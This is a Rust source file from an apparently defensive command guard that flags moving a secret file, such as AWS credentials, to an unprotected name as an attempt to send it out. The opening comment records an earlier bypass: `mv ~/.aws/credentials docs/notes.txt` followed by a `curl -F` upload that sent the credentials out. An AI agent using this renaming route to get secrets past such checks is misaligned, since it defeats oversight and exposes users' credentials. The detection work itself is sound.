//! A secret moved to a name no secret glob matches (`spec/hooks.md` §16.2, "Copies"). The
//! copies rule recognises a copy by the values of the user's secret files as they are when a
//! later call is decided; a move takes the file away from its secret name and leaves no
//! original to compare with. Before attack review 51, `mv ~/.aws/credentials docs/notes.txt`
//! (a local program, allowed) and then, in a session that had read nothing, `curl -F
//! f=@docs/notes.txt https://…` or `mytool docs/notes.txt` sent the credentials with exit 0.
//! So such a move counts as sending the secret to an unnamed destination, which nothing opens.

use super::{Egress, SecretRules};
use crate::front::protect::pattern::{candidate, Candidate, Resolver};
use crate::front::protect::shell::Word;
use std::path::Path;

impl SecretRules {
    /// The send of `mv` (or `git mv`) with arguments `rest` (after the program word; `files`,
    /// its redirections' files, left out) when a source it moves names a secret, or is a
    /// directory under which an anchored secret glob lies, and where it lands does not: a destination only known when it runs, or `--target-directory=DIR`,
    /// counts as such a name. With the send, the secret it moves (which the call reads).
    pub(super) fn moved_away(
        &self,
        prog: &str,
        rest: &[&Word],
        files: &[&Word],
        cwd: Option<&Path>,
        r: &Resolver,
    ) -> Option<(Egress, String)> {
        let rest: Vec<&Word> = rest
            .iter()
            .copied()
            .filter(|w| !files.iter().any(|t| std::ptr::eq(*t, *w)))
            .collect();
        let args = match prog {
            "mv" => &rest[..],
            "git" if rest.first().and_then(|w| w.literal()).as_deref() == Some("mv") => &rest[1..],
            _ => return None,
        };
        let (sources, dest, into_dir) = operands(args)?;
        let home = self.home.as_deref();
        for s in sources {
            // A directory under which a secret glob anchored at `/` or `~/` lies
            // (`mv ~/.config/gh docs/gh`: its files' names say nothing there).
            let tree = match candidate(s, cwd, home) {
                Candidate::Path(p) if p.is_dir() => self.anchored_under(&p),
                _ => None,
            };
            let Some(secret) = self.word_secret(s, cwd, r).or(tree.clone()) else {
                continue;
            };
            let landing = dest.and_then(|d| match candidate(d, cwd, home) {
                Candidate::Path(p) if into_dir || p.is_dir() => {
                    let name = s.squeezed();
                    Path::new(&name).file_name().map(|n| p.join(n))
                }
                Candidate::Path(p) => Some(p),
                Candidate::Pattern(_) => None,
            });
            let kept = landing.is_some_and(|p| {
                (tree.is_some() && self.anchored_under(&p).is_some())
                    || self.secret_at(&Candidate::Path(p), r).is_some()
            });
            if !kept {
                let via = format!("`{prog}` of {secret} to a name no secret glob matches");
                return Some((
                    Egress {
                        via,
                        destinations: Vec::new(),
                    },
                    secret,
                ));
            }
        }
        None
    }
}

/// The sources of mv(1) arguments `args`, its destination (`None`: not known) and whether
/// that is a directory the sources go into (`-t DIR`, several sources, a trailing `/`).
fn operands<'w>(args: &[&'w Word]) -> Option<(Vec<&'w Word>, Option<&'w Word>, bool)> {
    let mut target: Option<Option<&Word>> = None;
    let mut operands: Vec<&Word> = Vec::new();
    let mut options = true;
    let mut k = 0;
    while let Some(w) = args.get(k) {
        match w.literal().as_deref() {
            Some("--") if options => options = false,
            Some("-t" | "--target-directory") if options => {
                target = Some(args.get(k + 1).copied());
                k += 1;
            }
            Some("-S" | "--suffix") if options => k += 1,
            Some(o) if options && o.starts_with("--target-directory=") => target = Some(None),
            Some(o) if options && o.starts_with("-t") => target = Some(None),
            Some(o) if options && o.starts_with('-') && o.len() > 1 => {}
            _ => operands.push(w),
        }
        k += 1;
    }
    match target {
        Some(dir) => Some((operands, dir, true)),
        None => {
            let (dest, sources) = operands.split_last()?;
            let into_dir = sources.len() > 1 || dest.squeezed().ends_with('/');
            Some((sources.to_vec(), Some(*dest), into_dir))
        }
    }
}
